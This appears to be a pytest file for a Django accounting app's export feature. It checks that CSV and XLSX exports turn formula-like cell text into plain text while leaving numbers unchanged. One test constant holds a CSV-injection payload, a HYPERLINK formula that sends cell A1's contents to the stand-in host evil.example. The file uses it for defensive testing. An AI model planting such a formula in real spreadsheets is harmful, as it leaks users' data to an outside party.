"""Exports never hand a spreadsheet a formula (CSV injection), and numbers stay numbers."""

from __future__ import annotations

import csv
import io

from django.core.management import call_command
from openpyxl import Workbook, load_workbook

from accountable.accounts.services import account_create
from accountable.core.spreadsheets import cell_text, workbook_make_safe

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Open")'


def test_text_that_would_start_a_formula_is_made_plain_and_numbers_are_untouched():
    assert [cell_text(v) for v in (EVIL, "+1", "-2", "@SUM(A1)", "\t=1", "Acme", -5, 1.5)] == [
        "'" + EVIL,
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\t=1",
        "Acme",
        -5,
        1.5,
    ]


def test_an_account_named_like_a_formula_is_exported_as_text(programme, tmp_path):
    account_create(actor=programme.director, name=EVIL)
    csv_out, xlsx_out = tmp_path / "accounts.csv", tmp_path / "accounts.xlsx"

    call_command("export", "accounts", "--output", str(csv_out))
    call_command("export", "accounts", "--format", "xlsx", "--output", str(xlsx_out))

    names = [r["name"] for r in csv.DictReader(csv_out.open(encoding="utf-8"))]
    assert "'" + EVIL in names and EVIL not in names
    sheet = load_workbook(xlsx_out).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]
    assert any(c.value == "'" + EVIL for c in cells)
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)


def test_a_workbook_is_made_safe_in_every_sheet():
    book = Workbook()
    book.active.append(["=1+1", 3, "ok"])
    book.create_sheet("Two").append(["@cmd"])

    workbook_make_safe(book)

    out = io.BytesIO()
    book.save(out)
    loaded = load_workbook(out)
    assert [c.value for c in loaded.worksheets[0][1]] == ["'=1+1", 3, "ok"]
    assert loaded.worksheets[1]["A1"].value == "'@cmd"
    assert loaded.worksheets[0]["A1"].data_type == "s"
